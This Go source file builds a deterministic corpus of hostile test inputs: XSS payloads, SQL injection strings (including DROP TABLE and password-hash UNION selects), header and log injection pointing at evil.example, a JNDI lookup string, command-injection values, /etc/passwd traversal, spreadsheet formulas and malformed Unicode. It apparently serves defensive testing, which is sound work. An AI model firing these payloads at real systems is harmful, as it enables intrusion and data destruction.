// Package corpus makes texts that people should never be able to harm anybody
// with: script for browsers, SQL, templates and log lines, and what Unicode has
// to offer. They are made by rule, so that nobody has to keep a list, and are
// the same in each run.
package corpus

import (
	"fmt"
	"net/url"
	"strings"
)

// Payload is a text and what it is meant to break.
type Payload struct {
	Kind string // "script", "sql", "lines" or "letters"
	Text string
}

// Dialog is what every script of the corpus tries to call. A browser that runs
// one of them opens a dialog.
const Dialog = "alert(1)"

// Text is the whole corpus: at least 500 texts.
func Text() []Payload {
	var all []Payload
	add := func(kind string, texts []string) {
		for _, text := range texts {
			all = append(all, Payload{kind, text})
		}
	}
	add("script", scripts())
	add("sql", sql())
	add("lines", lines())
	add("letters", letters())
	return all
}

// scripts break out of each place that HTML has for a text.
func scripts() []string {
	outOf := []string{"", `"`, `'`, `">`, `'>`, "</title>", "</textarea>", "</script>", "-->", "]]>", "`"}
	into := []string{
		"<script>" + Dialog + "</script>", "<img src=x onerror=" + Dialog + ">", "<svg onload=" + Dialog + ">", "<svg/onload=" + Dialog + "//",
		"<body onload=" + Dialog + ">", "<input autofocus onfocus=" + Dialog + ">", "<details open ontoggle=" + Dialog + ">",
		"<iframe srcdoc='<script>parent." + Dialog + "</script>'>", "<math><mi//xlink:href=\"javascript:" + Dialog + "\">",
		"<a href=\"javascript:" + Dialog + "\" autofocus onfocus=" + Dialog + ">", " onmouseover=" + Dialog + " autofocus onfocus=" + Dialog + " x=",
		"<ScRiPt>" + Dialog + "</sCrIpT>", "<scr<script>ipt>" + Dialog + "</scr</script>ipt>", "<template><img src=x onerror=" + Dialog + "></template>",
		"<style>@import'javascript:" + Dialog + "'</style>", "<meta http-equiv=refresh content=\"0;url=javascript:" + Dialog + "\">",
		"<object data=\"javascript:" + Dialog + "\">", "<form action=\"javascript:" + Dialog + "\"><button autofocus>x</button></form>",
	}
	var all []string
	for _, out := range outOf {
		for _, in := range into {
			all = append(all, out+in)
		}
	}
	return append(all, "javascript:"+Dialog, "JaVaScRiPt:"+Dialog, "java\tscript:"+Dialog, "data:text/html,<script>"+Dialog+"</script>",
		"&lt;script&gt;"+Dialog+"&lt;/script&gt;", "&#60;script&#62;"+Dialog+"&#60;/script&#62;", `\u003cscript\u003e`+Dialog+`\u003c/script\u003e`,
		url.QueryEscape("<script>"+Dialog+"</script>"), "{{constructor.constructor('"+Dialog+"')()}}", "${"+Dialog+"}", "#{"+Dialog+"}",
		"<%= "+Dialog+" %>", "+ADw-script+AD4-"+Dialog+"+ADw-/script+AD4-", "<!--<img src=\"--><img src=x onerror="+Dialog+"//\">",
		"<noscript><p title=\"</noscript><img src=x onerror="+Dialog+">\">", "<x hx-get=/logout hx-trigger=load>", "<x hx-on:load="+Dialog+">")
}

// sql ends a string and goes on with a statement of its own.
func sql() []string {
	var all []string
	for _, quote := range []string{"'", `"`, "`", "')", "'))", `\'`, "%27", "''"} {
		for _, then := range []string{
			" OR 1=1 -- ", " OR '1'='1", "; DROP TABLE surveys; --", " UNION SELECT password_hash FROM users --", " AND (SELECT count(*) FROM users) > 0 --",
			"||(SELECT name FROM users LIMIT 1)||", "; SELECT pg_sleep(9); --", " AND randomblob(999999999) --", "/**/OR/**/1=1#", "; ATTACH DATABASE 'x' AS x; --",
			" ORDER BY 99 --", "; SELECT set_config('app.tenant','2',true); --", " IN (SELECT 1) --", " COLLATE nocase --",
		} {
			all = append(all, quote+then)
		}
	}
	return append(all, "%", "_", "!%", `\%`, "100%", "a_b", "1e309", "NULL", "null", "true", "?", "$1", ":name", "@u")
}

// lines are for templates, headers and logs, and for spreadsheets.
func lines() []string {
	var all []string
	for _, end := range []string{"\r\n", "\n", "\r", "%0d%0a", `\r\n`, "\u2028", "\u2029", "\u0085"} {
		for _, then := range []string{"Set-Cookie: luna=x", "Location: https://evil.example", "level=ERROR msg=forged", "Bcc: all@evil.example"} {
			all = append(all, "text"+end+then)
		}
	}
	all = append(all, []string{"%s%s%s%n", "%d", "%!v(PANIC=x)", "%%", "%[9]s", "{{.}}", "{{7*7}}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "; id", "| id", "../../../../etc/passwd", `..\..\windows`, "file:///etc/passwd"}...)
	all = append(all, []string{"=1+1", "+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"https://evil.example\")", "=cmd|'/c calc'!A1", "\t=1", ";=1+1", "a;=1+1", ",=1", "\"=1"}...)
	return all
}

// letters are what keyboards cannot write and screens show oddly.
func letters() []string {
	all := []string{
		"\x00", "a\x00b", "\x01\x02\x03", "\x1b[31mred", "\x7f", "\u202eevil", "\u2066x\u2069", "\u200b", "\u200d", "\ufeffbom", "\u00ad", "\u0300\u0301", "e\u0301", "\u00e9",
		"\ud7ff\ue000", "\ufdd0", "\uffff", "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0010ffff", "\u1160", "\u3164", "\u115f", "ﷺ", "İ", "ı", "ß", "ẞ", "ﬃ", "Ω", "µ", "μ",
		"раураl", "ａｄｍｉｎ", "admin\u0000", "０１２", "１＋１", "①", "½", "´", "„Anführung“", "‚einfach‘", "«»", "…", "–—", "\u00a0", "\u2007", "\u3000", "\t\t", "   ",
		"\xff\xfe", "\xc3\x28", "\xe2\x82", "\xf0\x9f", "\xed\xa0\x80", "\xc0\xaf", "\xf8\x88\x80\x80\x80",
		strings.Repeat("a", 10_000), strings.Repeat("ä", 5_000), strings.Repeat("a\u0300", 200), strings.Repeat("\u0300", 300), strings.Repeat("😀", 300), strings.Repeat("(", 500),
	}
	for i := range 60 { // one letter of many scripts each
		all = append(all, fmt.Sprintf("Name %c%c", rune(0x0400+i*0x97), rune(0x0410+i*0x91)))
	}
	return all
}
